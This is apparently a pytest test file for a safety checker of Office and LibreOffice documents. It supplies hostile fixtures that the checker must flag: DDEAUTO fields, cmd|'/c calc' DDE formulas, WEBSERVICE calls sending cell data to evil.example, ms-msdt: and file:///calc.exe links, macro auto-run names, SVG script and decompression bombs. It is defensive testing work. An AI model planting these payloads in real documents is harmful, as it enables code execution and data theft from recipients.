"""An office document is a document to read: what runs, or is fetched from elsewhere, is refused."""

from __future__ import annotations

import io
import tracemalloc

import pytest
from PIL import Image

from pages.files.attachments import wrong_content
from pages.files.office.formulas import makes_an_address, only_reckons
from pages.files.safe_office import wrong_office
from tests.growth import assert_grows_with
from tests.pages.files.metadata.makers import image, package, pdf, saved

RUNS, FETCHES = "in dit document zit een macro", "dit document haalt iets van elders op"
LEADS = "een formule in dit document maakt zelf een adres"
TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EVIL = "https://evil.example/a"
SVG = '<svg xmlns="http://www.w3.org/2000/svg">{}</svg>'


def related(kind: str, target: str, mode: str = "External", body: str = "<p>Een zin.</p>") -> bytes:
    """Give a document of Word with one relationship."""
    return package(
        word__document=f"<document xmlns:r='r'>{body}</document>",
        **{
            "word___rels__document.xml.rels": f'<Relationships><Relationship Id="rId1" '
            f'Type="{TYPES}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
        },
    )


def typed(name: str, content_type: str) -> bytes:
    """Give a document of Word that says of which type a part is."""
    types = f"<Types><Override PartName='/{name}' ContentType='application/vnd.{content_type}'/>"
    return package(**{"[Content_Types].xml": f"{types}</Types>", "word__document": "<document/>"})


def word(body: str) -> bytes:
    """Give a document of Word."""
    return package(word__document=f"<w:document xmlns:w='w'>{body}</w:document>")


def field(*pieces: str, result: str = "1") -> str:
    """Give a field of Word, whose instruction is in pieces: words, or fields in it."""
    said = "".join(
        piece if piece.startswith("<") else f"<w:instrText>{piece}</w:instrText>"
        for piece in pieces
    )
    mark = "<w:fldChar w:fldCharType='{}'/>".format
    return f"{mark('begin')}{said}{mark('separate')}<w:t>{result}</w:t>{mark('end')}"


def sheet(formula: str, element: str = "f") -> bytes:
    """Give a workbook with one formula."""
    return package(xl__sheet1=f"<worksheet><{element}>{formula}</{element}></worksheet>")


def odf(inner: str, part: str = "content") -> bytes:
    """Give a document of LibreOffice."""
    return package(**{part: f"<document-content>{inner}</document-content>"})


def within(name: str, content: str | bytes) -> bytes:
    """Give a document with one more part."""
    return package(**{"word__document": "<document/>", name.replace("/", "__"): content})


@pytest.mark.parametrize(
    "data",
    [
        related("hyperlink", "https://a.example/", body="<hyperlink r:id='rId1'/>"),
        related("hyperlink", "mailto:a@b.be", body="<p r:id='rId2'/>"),
        related("image", "media/a.png", "Internal", "<blip r:embed='rId1'/>"),
        related("styles", "/word/styles.xml", "Internal"),
        typed("word/document.xml", "openxmlformats-officedocument.wordprocessingml.styles+xml"),
        package(xl__workbook="<workbook/>", **{"xl__printerSettings__printerSettings1.bin": "x"}),
        within("word/media/a.png", image("PNG")),
        within("word/media/a.svg", SVG.format("<path d='M0 0'/>")),
        within("word/media/a.pdf", saved(pdf())),
        within("word/embeddings/a.xlsx", sheet("SUM(A1:A3)")),
        word("<w:instrText> PAGE </w:instrText>"),
        word(field(" PA", "GE ")),
        word(field(' TOC \\o "1-3" \\h ', result=field(" PAGEREF _Toc1 \\h "))),
        word(field(" IF ", field(" MERGEFIELD naam "), ' = "" "geen" "wel" ')),
        word(field(' HYPERLINK "https://a.example/" \\o "zie: daar" ')),
        word(field(' HYPERLINK \\l "_Toc1" ')),
        word(field(" =SUM(ABOVE) ")),
        word(f"<AlternateContent><Choice>{field('DATE')}</Choice></AlternateContent>"),
        word("<w:fldSimple w:instr=' FILENAME '/>"),
        package(ppt__slide="<sld><hlinkClick action='ppaction://hlinksldjump'/></sld>"),
        sheet("IF(A1=\"a | b\",'Blad | 1'!A1,Tabel1[prijs | stuk])"),
        sheet("HYPERLINK(&quot;https://a.example/&quot;,&quot;hier&quot;)"),
        *(
            sheet(formula)
            for formula in (
                'HYPERLINK("https://a.example/zoek?naam="&amp;A2;"zoek")',
                'HYPERLINK("mailto:"&amp;A2&amp;"@a.example", "schrijf")',
                'HYPERLINK("#"&amp;A2&amp;"!A1","naar het blad")',
                'IF(A1="","",HYPERLINK( "bijlage.pdf" ))',
                'SUM(INDIRECT("Blad1!A1:A9"))',
            )
        ),
        sheet('INDIRECT(SUBSTITUTE(B2," ","_"))', "formula1"),
        odf("<a href='https://a.example/'>Een</a><image href='Pictures/a.png'/>"),
        odf("<object href='./Object 1'/><table-cell formula='of:=SUM([.A1:.A2];{1|2})'/>"),
        odf("<chart href='..' class='chart:bar'/>", "Object 1__content"),
        odf("<event-listener event-name='dom:click' action='next-page'/>"),
        odf("<template href='../sjablonen/brief.ott'/>", "meta"),
        odf("<template href='file:///C:/sjablonen/brief.ott'/>", "meta"),
        odf("<table-cell formula='of:=SUM(tabel[[&apos;#een]:[twee]];tabel[&apos;#drie])'/>"),
    ],
)
def test_document_passes(data: bytes) -> None:
    """What programs write of themselves is left alone: links to click on, a printer, a page."""
    assert wrong_office(data) == []


@pytest.mark.parametrize(
    "data",
    [
        related("oleObject", EVIL),
        related("oleObject", "embeddings/o.dat", "Internal"),
        related("vbaProject", "prj.xml", "Internal"),
        related("video", "media/a.mp4", "Internal"),
        *(
            within(name, "x")
            for name in (
                *("word/vbaProject.bin", "word/vbaData.xml", "word/embeddings/oleObject1.bin"),
                *("word/activeX/activeX1.xml", "Basic/Standard/Module1.xml", "scripts/python/a.py"),
                *("xl/macrosheets/sheet1.xml", "customUI/customUI.xml", "word/media/a.mp4"),
                *(f"word/a.{kind}" for kind in ("exe", "msi", "com", "wsf", "iso", "zip", "pif")),
                *(f"word/a.{kind}" for kind in ("xll", "docm", "xls", "doc", "htm", "rtf", "py")),
                *("word/document.dat", "word/a.", "word\\a.exe "),
            )
        ),
        within("word/embeddings/blad.xlsx", package(**{"xl__vbaProject.bin": "x"})),
        within("word/embeddings/blad.xlsx", "geen werkblad"),
        within("word/media/a.svg", SVG.format("<script>alert(1)</script>")),
        within("word/media/a.pdf", "geen pdf"),
        within("word/media/a.png", "<document/>"),
        within("word/media/a.emf", b"\xd0\xcf\x11\xe0"),
        typed("word/document.xml", "ms-word.document.macroEnabled.main+xml"),
        typed("word/prj.xml", "ms-office.vbaProject"),
        package(ppt__slide="<sld><hlinkMouseOver action='ppaction://program'/></sld>"),
        package(xl__sheet1="<macrosheet><f>1</f></macrosheet>"),
        package(xl__workbook="<definedName name='_xlnm.Auto_Open'>A1</definedName>"),
        odf("<event-listener href='vnd:x'/>"),
        odf("<image><binary-data>PHN2Zz4=</binary-data></image>"),
        odf("<event-listener action='show' macro-name='Standard.Een'/>"),
        odf("<a href='vnd.sun.star.script:x.py$f?language=Python&amp;location=share'>x</a>"),
        odf("<item id='macro:///Standard.Een'/>", "Configurations2__menubar__menubar"),
    ],
)
def test_what_runs_is_told(data: bytes) -> None:
    """A macro, a program or another file is told with what to do, by the check of documents too."""
    assert any(message.startswith(RUNS) for message in wrong_office(data))
    assert any(problem.message.startswith(RUNS) for problem in wrong_content(data, ".docx", "x"))


@pytest.mark.parametrize(
    "data",
    [
        related("attachedTemplate", EVIL),
        related("image", EVIL),
        related("image", EVIL, "Internal"),
        related("aFChunk", "a.html", "Internal"),
        related("connections", "connections.xml", "Internal"),
        related("hyperlink", EVIL, body="<blip r:link='rId1'/>"),
        *(
            related("hyperlink", address)
            for address in ("file:///c:/calc.exe", "ms-msdt:/id x", "javascript:a()", "//evil/a")
        ),
        typed("xl/a.xml", "openxmlformats-officedocument.spreadsheetml.externalLink+xml"),
        package(**{"word__Document.XML": "<document><instrText>DDE c:</instrText></document>"}),
        *(
            word(body)
            for body in (
                "<w:instrText>DDEAUTO c:</w:instrText>",
                "<w:instrText>DD</w:instrText><w:instrText>EAUTO c:</w:instrText>",
                field("D", "D", "E", "AUTO c:"),
                field(f'INCLUDEPICTURE "{EVIL}" \\d'),
                field('LINK Excel.Sheet.8 "\\\\evil\\a.xls" \\a'),
                field('INCLUDETEXT "\\\\evil\\a.docx"'),
                field('HYPERLINK "file:///c:/calc.exe"'),
                field('HYPERLINK \\l "a" "\\\\\\\\evil\\\\a"'),
                field("HYPERLINK ", field('QUOTE "file:///c:/calc.exe"')),
                field(field('QUOTE "DDEAUTO"'), " PAGE "),
                field("<w:delInstrText>PAGE </w:delInstrText>", "DDEAUTO c:"),
                field("<x:instrText xmlns:x='x'>PAGE </x:instrText>", "DDEAUTO c:"),
                field("<AlternateContent/>", "DDEAUTO c:"),
                "<w:fldChar w:fldCharType='begin' xmlns:x='x' x:fldCharType='separate'/>",
                f"<Choice><w:fldChar w:fldCharType='begin'/></Choice>{field('PAGE')}",
                field("IF ", f"<txbxContent>{field('DDEAUTO c:')}</txbxContent>"),
                f"<w:fldSimple w:instr='INCLUDEPICTURE &quot;{EVIL}&quot;'/>",
                "<w:mailMerge><w:connectString w:val='Provider=evil;'/></w:mailMerge>",
                f"<imagedata src='{EVIL}'/>",
            )
        ),
        *(
            sheet(formula)
            for formula in (
                f'WEBSERVICE("{EVIL}"&amp;A1)',
                f'_xlfn.IMAGE ("{EVIL}")',
                "_xlfn.MAP(A1,_xleta.WEBSERVICE)",
                "cmd|'/c calc'!A1",
                "T[a\"]&amp;cmd|'/c calc'!A1&amp;T[a\"]",
                f"'{EVIL}/[b.xlsx]Blad1'!A1",
                'HYPERLINK("file:///c:/calc.exe")',
            )
        ),
        sheet("CALL(1)", "definedName"),
        *(
            package(xl__connections=f"<connections><connection>{inner}</connection></connections>")
            for inner in (f"<webPr url='{EVIL}'/>", "<dbPr connection='Data Source=\\\\evil'/>")
        ),
        package(xl__links="<externalLink><ddeLink ddeService='cmd'/></externalLink>"),
        *(
            odf(f"<{element} href='{address}'/>")
            for element, address in (
                *(("section-source", EVIL), ("floating-frame", EVIL), ("background-image", EVIL)),
                *(("table-source", EVIL), ("cell-range-source", EVIL), ("sound", EVIL)),
                *(("list-level-style-image", EVIL), ("auto-reload", EVIL), ("image", EVIL)),
                *(("image", "//evil/p.png"), ("image", "../p.png"), ("image", "\\\\evil\\p.png")),
                *(
                    ("image", "%2e%2e/p.png"),
                    ("chart", EVIL),
                    ("chart", "../a.ods"),
                    ("template", EVIL),
                    ("template", "file://evil/a"),
                    ("a", "file:///c:/calc.exe"),
                ),
            )
        ),
        *(
            odf(f"<table-cell formula='of:={formula}'/>")
            for formula in (
                'WEBSERVICE("https://evil.example")',
                'DDE("soffice";"x";"y")',
                f"[&apos;{EVIL}&apos;#$Blad1.A1]",
            )
        ),
        odf("<dde-source/>"),
        odf(f"<submission action='{EVIL}'/>"),
        package(
            docProps__app="<Properties><HyperlinkBase>file:///c:/</HyperlinkBase></Properties>"
        ),
    ],
)
def test_what_is_fetched_is_told(data: bytes) -> None:
    """What comes from elsewhere is told with what to do, by the check of documents too."""
    assert any(message.startswith(FETCHES) for message in wrong_office(data))
    assert any(problem.message.startswith(FETCHES) for problem in wrong_content(data, ".docx", "x"))


@pytest.mark.parametrize(
    "data",
    [
        *(
            sheet(formula)
            for formula in (
                "HYPERLINK(A1)",
                'HYPERLINK("java"&amp;"script:boos()")',
                'hyperlink\n( "file:"&amp;A1,"https://a.example/")',
                'HYPERLINK("\\\\evil"&amp;A1)',
                'HYPERLINK(IF(A1,"https://a.example/",B1))',
                'HYPERLINK("https://a.example/")&amp;HYPERLINK(CHAR(102)&amp;"ile:///c:/a.exe")',
                'HYPERLINK("x""y")',
                "_xlfn.MAP(A1:A9,_xleta.HYPERLINK)",
                "INDIRECT(A1)",
                'SUM(INDIRECT( "\'["&amp;A1&amp;"]Blad1\'!A1"))',
                "INDIRECT(\"'file:///c:/a.ods'#$Blad1.A1\")",
                "INDIRECT(\"'[b.xlsx]Blad1'!A1\")",
                "_xlfn.MAP(A1:A9,_xleta.INDIRECT)",
            )
        ),
        sheet("INDIRECT(A1)", "definedName"),
        sheet("HYPERLINK(A1)", "formula1"),
        odf("<table-cell formula='of:=HYPERLINK([.A1];&quot;x&quot;)'/>"),
        odf("<table-cell formula='of:=INDIRECT([.A1])'/>"),
    ],
)
def test_an_address_that_is_made_is_told(data: bytes) -> None:
    """What a formula puts together can lead to anything, so it is told with what to do."""
    assert any(message.startswith(LEADS) for message in wrong_office(data))
    assert any(problem.message.startswith(LEADS) for problem in wrong_content(data, ".xlsx", "x"))


@pytest.mark.parametrize(
    "part",
    [
        field("IF ", field("PAGE"), " "),
        "<w:fldChar w:fldCharType='begin'/><w:instrText>IF </w:instrText>",
        "<w:instrText> PAGE </w:instrText>",
        "<Choice>",
        "<f>",
    ],
)
def test_fields_grow(part: str) -> None:
    """Many fields, also in one another, take as much more work."""
    assert_grows_with(lambda times: _many(part, 200 * times), wrong_office)


def judged(formula: str) -> bool:
    """Look at a formula in both ways."""
    return only_reckons(formula) and makes_an_address(formula, on_a_click=False)


@pytest.mark.parametrize(
    "part", ["'", '"', "[", "{", "'[", "//", '{"', 'HYPERLINK("', "INDIRECT(", '"|"']
)
def test_formulas_grow(part: str) -> None:
    """A longer formula takes as much more work."""
    assert_grows_with(lambda times: f"'{part * 2_000 * times}", judged)


@pytest.mark.parametrize("formula", ['"{}"', "'{}'", "[{}]", "{{{}}}", '{{"{}"}}', '"{}', "{{{}"])
def test_formulas_take_little_memory(formula: str) -> None:
    """However long a text in a formula is, it takes no more memory than a copy of it."""
    long = formula.format("a" * 1_000_000)
    tracemalloc.start()
    try:
        judged(long)
        assert tracemalloc.get_traced_memory()[1] < 3 * len(long)
    finally:
        tracemalloc.stop()


def test_a_long_formula() -> None:
    """A formula that Excel takes passes, however it is written; a longer one is told."""
    assert wrong_office(sheet("1+" * 8_000 + "1")) == []
    (problem,) = wrong_content(sheet("1+" * 9_000 + "1"), ".xlsx", "x.xlsx")
    assert problem.message.startswith("in dit document staat een formule die te lang is")


def _many(part: str, times: int) -> bytes:
    ends = f"</{part[1:-1]}>" if "/" not in part else ""
    return word(part * times + ends * times)


def many_dots() -> bytes:
    """Give a PNG of 49 million dots of one bit each."""
    out = io.BytesIO()
    Image.new("1", (7_000, 7_000)).save(out, "PNG")
    return out.getvalue()


@pytest.mark.parametrize(
    "data",
    [
        package(word__document=b"<r>" + b"<a/>" * 2_000_000 + b"</r>"),
        package(**{f"word__media__i{number}.png": many_dots() for number in range(25)}),
    ],
    ids=["elements", "dots"],
)
def test_what_unpacks_to_too_much_work(data: bytes) -> None:
    """A small file of which each byte becomes many elements, or dots, is not looked through."""
    (problem,) = wrong_content(data, ".docx", "x.docx")
    assert "te veel om na te kijken" in problem.message
